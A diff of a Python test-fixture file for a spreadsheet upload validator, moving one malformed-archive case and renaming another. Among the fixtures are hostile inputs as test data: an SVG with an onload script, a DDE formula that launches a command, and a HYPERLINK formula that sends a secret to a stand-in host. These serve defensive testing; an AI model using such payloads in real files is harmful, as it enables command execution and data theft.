@@ -152,15 +152,15 @@ REFUSED: dict[str, Callable[[], bytes]] = {
     "a binary workbook": lambda: archive(**{"xl/workbook.bin": b"x"}),
     "a workbook within a workbook": lambda: archive(**{"xl/inner.xlsx": b"PK"}),
     "a drawing that is a script": lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>",
-    "a member that is not compressed as it says": lambda: archive(table()).replace(
-        b"\x08\x00", b"\x0c\x00", 1
-    ),
     "200,001 rows": lambda: ("Commune;Places\n" + "Ville;3\n" * 200_001).encode(),
     "a row below zero": lambda: archive(sheet("<row r='-5'><c r='A-5'><v>1</v></c></row>")),
 }
 """Files that are refused with a sentence, whoever sends them."""
 
 ODD: dict[str, Callable[[], bytes]] = {
+    "a member that is not compressed as it says": lambda: archive(table()).replace(
+        b"\x08\x00", b"\x0c\x00", 1
+    ),
     "formulas": lambda: (
         f'{HEAD}33063;=cmd|\' /C calc\'!A0;@SUM(1);=HYPERLINK("http://pirate.example";"{SECRET}");-1+2\n'.encode()
     ),
@@ -228,7 +228,7 @@ ODD: dict[str, Callable[[], bytes]] = {
     "299 columns": lambda: (
         ";".join(f"c{n}" for n in range(299)) + "\n" + (";".join(["7"] * 299) + "\n") * 4_900
     ).encode(),
-    "ten thousand headings alike": lambda: (
+    "290 headings alike": lambda: (
         (";".join(["Places"] * 290) + "\n" + ";".join(["1"] * 290) + "\n").encode() * 20
     ),
 }
